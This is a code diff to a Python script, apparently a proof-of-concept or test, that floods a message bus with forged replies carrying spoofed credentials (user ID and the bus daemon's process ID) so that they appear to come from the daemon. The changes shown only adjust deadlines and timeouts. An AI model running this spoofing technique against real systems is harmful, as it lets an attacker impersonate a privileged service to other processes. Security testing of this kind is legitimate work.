@@ -9,6 +9,7 @@ monitoring the bus. This process calls the service meanwhile, as a new caller ea
 """
 
 import json
+import math
 import os
 import signal
 import sys
@@ -50,6 +51,7 @@ def forged(target, serial, signature, body, error=None, descriptors=0):
 
 def flood(address, targets, daemon, parent):
     """Sends forged replies until it is killed, or until its parent was."""
+    Connection.deadline = math.inf
     pidfd = os.pidfd_open(daemon)
     facts = marshal("a{sv}", [{"UnixUserID": Variant("u", os.getuid()), "ProcessID": Variant("u", daemon),
                                "ProcessFD": Variant("h", 0)}])
@@ -95,10 +97,11 @@ def attempts(address):
 
 
 def main():
-    address, end = sys.argv[1], time.monotonic() + float(sys.argv[2])
-    Connection.deadline = end + 0.5
-    with Caller(address, timeout=5) as caller:
+    address = sys.argv[1]
+    with Caller(address) as caller:
         targets, daemon = connections(caller), bus_call(caller, "GetConnectionUnixProcessID", BUS)
+    end = time.monotonic() + float(sys.argv[2])
+    Connection.deadline = end + 0.5
     parent = os.getpid()
     flooder = os.fork()
     if not flooder:
